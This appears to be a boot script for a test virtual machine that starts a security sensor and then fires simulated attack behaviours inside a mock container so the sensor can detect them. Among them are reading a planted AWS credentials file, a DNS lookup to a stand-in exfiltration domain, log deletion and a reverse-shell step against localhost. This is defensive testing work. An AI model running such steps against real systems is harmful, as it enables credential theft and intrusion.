#!/bin/busybox sh
# The first and only program of the small machine that run.ts boots: starts the sensor, lets something of each kind happen,
# and writes what the sensor said to the console, packed, between two lines.
/bin/busybox --install -s /bin
export PATH=/bin
mkdir -p /proc /sys /dev /tmp /run /var/log /etc/secrets
mount -t proc proc /proc
mount -t sysfs sys /sys
mount -t devtmpfs dev /dev
mount -t tmpfs tmp /tmp
mount -t cgroup2 cgroup /sys/fs/cgroup
mount -t bpf bpf /sys/fs/bpf
mount -t tracefs trace /sys/kernel/tracing
ip link set lo up
# the console is for what is asked for; what the kernel says is not
echo 1 > /proc/sys/kernel/printk
echo "throughline: booted $(uname -r)"

ready() {
  for i in $(seq 600); do
    grep -q '^Seccomp:.*2' "/proc/$1/status" 2> /dev/null && return 0
    [ -d "/proc/$1" ] || return 1
    usleep 100000
  done
  return 1
}

send() {
  echo "throughline: begin $1"
  gzip -c "$2" | base64
  echo "throughline: end $1"
}

inside() {
  (
    echo 0 > "$container/cgroup.procs"
    exec "$@"
  )
}

calls() {
  echo "throughline: calls $1 $(actor calls 20000)"
}

while read -r flags <&9; do
  calls without
  container="/sys/fs/cgroup/docker-$(printf '%064d' 7).scope"
  mkdir "$container"
  mkfifo /tmp/orders
  # shellcheck disable=SC2086
  sensord $flags --profile=full --enforce --orders-fd=3 > /tmp/frames 2> "${ERRORS:-/tmp/errors}" 3<> /tmp/orders &
  sensor=$!
  if ready $sensor; then
    echo "throughline: ready $flags"
    cat /orders.bin > /tmp/orders
    echo secret > /etc/secrets/credentials
    mkdir -p /root/.aws && echo secret > /root/.aws/credentials
    echo line > /var/log/app.log
    inside actor say hello "a b"
    inside cat /root/.aws/credentials > /dev/null
    inside actor takes > /dev/null
    inside actor connect 127.0.0.1 9
    inside actor dns 127.0.0.1 exfil.example.com
    inside actor send 127.0.0.1 9
    inside actor memfd
    inside actor become 65534 /bin/true
    inside actor trace
    inside actor names
    inside actor raw > /dev/null
    inside rm /var/log/app.log
    inside actor reverse 127.0.0.1 9
    inside victim say ran > /tmp/victim
    echo "throughline: victim $? $(wc -c < /tmp/victim)"
    calls with
    calls with
    usleep 1500000
    kill -TERM $sensor
  fi
  wait $sensor
  echo "throughline: ended $?"
  [ -n "$ERRORS" ] || sed 's/^/throughline: said /' /tmp/errors
  send frames /tmp/frames
  sensord --remove-pins
  rm -f /tmp/orders /tmp/frames
  rmdir "$container"
done 9< /runs
echo "throughline: done"
sleep 2 # the console is slower than we are
poweroff -f
